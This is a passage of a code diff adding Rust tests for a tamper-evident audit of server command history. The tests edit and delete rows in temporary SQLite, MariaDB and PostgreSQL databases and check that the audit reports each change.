+        let of = |h: i64, seq: i64| rows.iter().find(|r| r.host_id == h && r.chain_seq == seq).unwrap().id;
+        let (edited, deleted, newest) = (of(a, 100), of(a, 200), of(b, 500));
+        assert_eq!(
+            raw(dialect, url, &format!("UPDATE server_history SET history_command = 'tampered' WHERE id = {edited}"))
+                .await,
+            1
+        );
+        assert_eq!(raw(dialect, url, &format!("DELETE FROM server_history WHERE id = {deleted}")).await, 1);
+        assert_eq!(raw(dialect, url, &format!("DELETE FROM server_history WHERE id = {newest}")).await, 1);
+        let report = audit.verify().await.unwrap();
+        let finding = |host_id: i64, chain_seq: i64, problem: String| Finding { host_id, chain_seq, problem };
+        assert_eq!(
+            (report.hosts, report.rows, report.findings),
+            (
+                3,
+                999,
+                vec![
+                    finding(a, 100, format!("row id {edited} was edited or forged: its contents do not match its MAC")),
+                    finding(a, 201, "1 row(s) missing before this one (deleted): chain positions 200..200".into()),
+                    finding(b, 500, "the newest 1 row(s) were deleted: the chain head is at 500".into()),
+                ]
+            ),
+            "{dialect:?}"
+        );
+        store.close().await;
+    }
+
+    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+    async fn the_audit_service_behaves_alike_on_sqlite_mariadb_and_postgresql() {
+        let mut failures = Vec::new();
+        for dialect in [Dialect::Sqlite, Dialect::MySql, Dialect::Postgres] {
+            let outcome = AssertUnwindSafe(async {
+                let (url, server, _dir) = create(dialect).await;
+                let run = AssertUnwindSafe(check(dialect, &url)).catch_unwind().await;
+                drop_database(dialect, server).await;
+                if let Err(panic) = run {
+                    std::panic::resume_unwind(panic);
+                }
+            })
+            .catch_unwind()
+            .await;
+            if let Err(panic) = outcome {
+                let message = panic
+                    .downcast_ref::<String>()
+                    .cloned()
+                    .or_else(|| panic.downcast_ref::<&str>().map(|s| (*s).to_owned()))
+                    .unwrap_or_default();
+                failures.push(format!("{dialect:?}: {message}"));
+            }
+        }
+        assert!(failures.is_empty(), "failed on {} of 3 dialects:\n{}", failures.len(), failures.join("\n"));
+    }
+}
